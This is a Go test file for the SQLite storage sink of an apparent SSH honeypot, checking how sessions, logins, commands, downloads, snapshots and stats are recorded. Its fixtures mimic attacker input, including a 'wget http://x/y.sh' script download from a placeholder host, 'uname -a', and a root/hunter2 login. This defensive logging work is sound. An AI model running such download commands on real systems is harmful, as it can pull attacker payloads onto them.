package relational

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/V4T54L/honeywatch/internal/domain"
)

var baseTime = time.Date(2026, 10, 15, 12, 0, 0, 0, time.UTC)

func newTestSink(t *testing.T) *Sink {
	t.Helper()
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	s, err := Open(context.Background(), "sqlite", filepath.Join(t.TempDir(), "events.db"), logger)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	s.now = func() time.Time { return baseTime }
	t.Cleanup(func() { s.Close() })
	return s
}

func enriched(seq uint64, raw domain.RawEvent) domain.EnrichedEvent {
	if raw.Timestamp.IsZero() {
		raw.Timestamp = baseTime.Add(time.Duration(seq) * time.Second)
	}
	return domain.EnrichedEvent{
		SequenceID: seq,
		IngestedAt: baseTime,
		Event:      raw,
		Insight:    domain.ThreatInsight{Level: domain.LevelMedium, RiskScore: 15},
	}
}

func countRows(t *testing.T, s *Sink, table string) int {
	t.Helper()
	var n int
	if err := s.db.QueryRow("SELECT COUNT(*) FROM " + table).Scan(&n); err != nil {
		t.Fatalf("count %s: %v", table, err)
	}
	return n
}

func TestSink_SessionLifecycle(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	connect := enriched(1, domain.RawEvent{
		Kind:      domain.KindSessionConnect,
		SessionID: "abc123",
		SourceIP:  "10.0.0.5",
		Extra:     map[string]any{"sensor": "edge-1", "version": "SSH-2.0-Go"},
	})
	closed := enriched(2, domain.RawEvent{Kind: domain.KindSessionClosed, SessionID: "abc123"})

	for _, ev := range []domain.EnrichedEvent{connect, closed} {
		if err := s.Write(ctx, ev); err != nil {
			t.Fatalf("Write(%s): %v", ev.Event.Kind, err)
		}
	}

	if got := countRows(t, s, "sessions"); got != 1 {
		t.Fatalf("sessions = %d, want 1", got)
	}
	if got := countRows(t, s, "events"); got != 2 {
		t.Errorf("events = %d, want 2", got)
	}

	var sensor, client string
	var hasEnd bool
	err := s.db.QueryRow(`SELECT sensor, client, endtime IS NOT NULL FROM sessions WHERE id = ?`, "abc123").
		Scan(&sensor, &client, &hasEnd)
	if err != nil {
		t.Fatalf("select session: %v", err)
	}
	if sensor != "edge-1" || client != "SSH-2.0-Go" || !hasEnd {
		t.Errorf("session = (%q, %q, end=%v)", sensor, client, hasEnd)
	}
}

func TestSink_CloseUnknownSession(t *testing.T) {
	s := newTestSink(t)

	ev := enriched(1, domain.RawEvent{Kind: domain.KindSessionClosed, SessionID: "ghost"})
	if err := s.Write(context.Background(), ev); err != nil {
		t.Fatalf("Write: %v", err)
	}
	if got := countRows(t, s, "sessions"); got != 0 {
		t.Errorf("sessions = %d, want 0", got)
	}
	if got := countRows(t, s, "events"); got != 1 {
		t.Errorf("events = %d, want 1", got)
	}
}

func TestSink_LoginWritesAuthRow(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	tests := []struct {
		kind string
		want bool
	}{
		{domain.KindLoginSuccess, true},
		{domain.KindLoginFailed, false},
	}
	for i, tt := range tests {
		t.Run(tt.kind, func(t *testing.T) {
			session := "sess-" + tt.kind
			ev := enriched(uint64(i+1), domain.RawEvent{
				Kind:      tt.kind,
				SessionID: session,
				SourceIP:  "192.0.2.1",
				Username:  "root",
				Password:  "hunter2",
			})
			if err := s.Write(ctx, ev); err != nil {
				t.Fatalf("Write: %v", err)
			}

			var success bool
			var username string
			err := s.db.QueryRow(`SELECT success, username FROM auth WHERE session = ?`, session).Scan(&success, &username)
			if err != nil {
				t.Fatalf("select auth: %v", err)
			}
			if success != tt.want || username != "root" {
				t.Errorf("auth = (%v, %q), want (%v, root)", success, username, tt.want)
			}

			var ip string
			if err := s.db.QueryRow(`SELECT ip FROM sessions WHERE id = ?`, session).Scan(&ip); err != nil {
				t.Fatalf("placeholder session missing: %v", err)
			}
			if ip != "192.0.2.1" {
				t.Errorf("placeholder ip = %q", ip)
			}
		})
	}
}

func TestSink_FailedWriteRollsBack(t *testing.T) {
	s := newTestSink(t)
	if _, err := s.db.Exec(`DROP TABLE commands`); err != nil {
		t.Fatalf("drop: %v", err)
	}

	ev := enriched(1, domain.RawEvent{Kind: domain.KindCommandInput, SessionID: "s1", Input: "uname -a"})
	err := s.Write(context.Background(), ev)

	var werr *domain.SinkWriteError
	if !errors.As(err, &werr) || werr.Sink != "relational" {
		t.Fatalf("Write error = %v, want SinkWriteError", err)
	}
	if got := countRows(t, s, "events"); got != 0 {
		t.Errorf("events = %d, want 0 after rollback", got)
	}
	if got := countRows(t, s, "sessions"); got != 0 {
		t.Errorf("sessions = %d, want 0 after rollback", got)
	}
}

func TestSink_DownloadAndCommandRows(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	events := []domain.EnrichedEvent{
		enriched(1, domain.RawEvent{Kind: domain.KindCommandInput, SessionID: "s1", Input: "wget http://x/y.sh"}),
		enriched(2, domain.RawEvent{
			Kind:      domain.KindFileDownload,
			SessionID: "s1",
			Extra:     map[string]any{"url": "http://x/y.sh", "outfile": "dl/abc", "shasum": "abc"},
		}),
	}
	for _, ev := range events {
		if err := s.Write(ctx, ev); err != nil {
			t.Fatalf("Write(%s): %v", ev.Event.Kind, err)
		}
	}

	var command, url string
	if err := s.db.QueryRow(`SELECT command FROM commands`).Scan(&command); err != nil {
		t.Fatalf("select command: %v", err)
	}
	if err := s.db.QueryRow(`SELECT url FROM downloads`).Scan(&url); err != nil {
		t.Fatalf("select download: %v", err)
	}
	if command != "wget http://x/y.sh" || url != "http://x/y.sh" {
		t.Errorf("command = %q, url = %q", command, url)
	}
	if got := countRows(t, s, "sessions"); got != 1 {
		t.Errorf("sessions = %d, want 1", got)
	}
}

func TestSink_Snapshot(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	events := []domain.EnrichedEvent{
		enriched(1, domain.RawEvent{Kind: domain.KindSessionConnect, SessionID: "s1", SourceIP: "10.1.1.1"}),
		enriched(2, domain.RawEvent{Kind: domain.KindLoginSuccess, SessionID: "s1", Username: "admin", Password: "it's"}),
	}
	for _, ev := range events {
		if err := s.Write(ctx, ev); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}

	var buf bytes.Buffer
	if err := s.Snapshot(ctx, &buf, []string{"sessions", "auth"}); err != nil {
		t.Fatalf("Snapshot: %v", err)
	}
	out := buf.String()

	for _, want := range []string{
		"-- honeywatch SQL export\n",
		"-- Generated: 2026-10-15T12:00:00Z\n",
		"-- Database Type: sqlite\n",
		"-- Table: sessions\n",
		"INSERT INTO sessions (id, starttime, endtime, sensor, ip, termsize, client) VALUES ('s1', '2026-10-15 12:00:01.000000', NULL, NULL, '10.1.1.1', NULL, NULL);\n",
		"-- Table: auth\n",
		"'it''s'",
		"TRUE",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("snapshot missing %q\n%s", want, out)
		}
	}
	if strings.Contains(out, "-- Table: events") {
		t.Error("snapshot included an unrequested table")
	}

	if err := s.Snapshot(ctx, io.Discard, []string{"nope"}); err == nil {
		t.Error("expected error for unknown table")
	}
}

// stalledWriter blocks the first INSERT line until released.
type stalledWriter struct {
	started chan struct{}
	release chan struct{}
	once    bool
}

func (w *stalledWriter) Write(p []byte) (int, error) {
	if !w.once && bytes.Contains(p, []byte("INSERT")) {
		w.once = true
		close(w.started)
		<-w.release
	}
	return len(p), nil
}

func TestSink_StoreDuringSnapshot(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	for i := uint64(1); i <= 3; i++ {
		ev := enriched(i, domain.RawEvent{Kind: domain.KindSessionConnect, SessionID: fmt.Sprintf("s%d", i), SourceIP: "10.0.0.5"})
		if err := s.Store(ctx, ev); err != nil {
			t.Fatalf("Store: %v", err)
		}
	}

	w := &stalledWriter{started: make(chan struct{}), release: make(chan struct{})}
	done := make(chan error, 1)
	go func() { done <- s.Snapshot(ctx, w, []string{"sessions"}) }()

	select {
	case <-w.started:
	case err := <-done:
		t.Fatalf("snapshot finished before streaming rows: %v", err)
	case <-time.After(5 * time.Second):
		t.Fatal("snapshot never reached the rows")
	}

	storeCtx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	ev := enriched(4, domain.RawEvent{Kind: domain.KindSessionConnect, SessionID: "s4", SourceIP: "10.0.0.6"})
	err := s.Store(storeCtx, ev)
	close(w.release)

	if err != nil {
		t.Fatalf("Store while a snapshot streams: %v", err)
	}
	if err := <-done; err != nil {
		t.Fatalf("Snapshot: %v", err)
	}
	if n := countRows(t, s, "sessions"); n != 4 {
		t.Errorf("sessions = %d, want 4", n)
	}
}

func TestSink_Stats(t *testing.T) {
	s := newTestSink(t)
	ctx := context.Background()

	for i, kind := range []string{domain.KindSessionConnect, domain.KindLoginFailed, domain.KindLoginFailed} {
		ev := enriched(uint64(i+1), domain.RawEvent{Kind: kind, SessionID: "s1"})
		if err := s.Write(ctx, ev); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}

	stats, err := s.Stats(ctx)
	if err != nil {
		t.Fatalf("Stats: %v", err)
	}
	if stats.Backend != "sqlite" {
		t.Errorf("Backend = %q", stats.Backend)
	}
	if stats.Tables["events"] != 3 || stats.Tables["auth"] != 2 || stats.Tables["sessions"] != 1 {
		t.Errorf("Tables = %v", stats.Tables)
	}
	if stats.EventKinds[domain.KindLoginFailed] != 2 {
		t.Errorf("EventKinds = %v", stats.EventKinds)
	}
	if stats.Earliest == nil || stats.Latest == nil {
		t.Fatalf("time range missing: %v %v", stats.Earliest, stats.Latest)
	}
	if !stats.Earliest.Before(*stats.Latest) {
		t.Errorf("Earliest %v not before Latest %v", stats.Earliest, stats.Latest)
	}
}
